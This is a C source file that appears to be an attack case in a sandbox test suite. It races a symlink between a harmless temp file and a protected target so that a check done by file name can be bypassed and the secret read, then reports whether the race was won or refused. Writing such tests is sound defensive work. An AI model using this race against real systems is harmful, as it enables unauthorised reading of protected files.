// Swaps a symbolic link between a harmless file and the secret while opening it, so that a check by name is too early.
// argv[1]: the file.
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include "attack.h"

enum { kRounds = 20000 };

int main(int argc, char** argv) {
  char harmless[4096], name[4096], other[4096], byte[16];
  const char* tmp = getenv("TMPDIR");
  if (argc < 2 || tmp == NULL) return kCannotTry;
  snprintf(harmless, sizeof harmless, "%s/harmless", tmp);
  snprintf(name, sizeof name, "%s/race", tmp);
  snprintf(other, sizeof other, "%s/race.next", tmp);
  close(open(harmless, O_CREAT | O_WRONLY, 0600));
  const pid_t swapper = fork();
  if (swapper == 0) {
    for (;;) {
      unlink(other);
      symlink(harmless, other);
      rename(other, name);
      unlink(other);
      symlink(argv[1], other);
      rename(other, name);
    }
  }
  int got = 0;
  for (int i = 0; i < kRounds && !got; ++i) {
    const int fd = open(name, O_RDONLY);
    if (fd >= 0) {
      got = read(fd, byte, sizeof byte) > 0;
      close(fd);
    }
  }
  kill(swapper, SIGKILL);
  waitpid(swapper, NULL, 0);
  errno = EACCES;
  return got ? succeeded("won the race") : refused("race of renames");
}
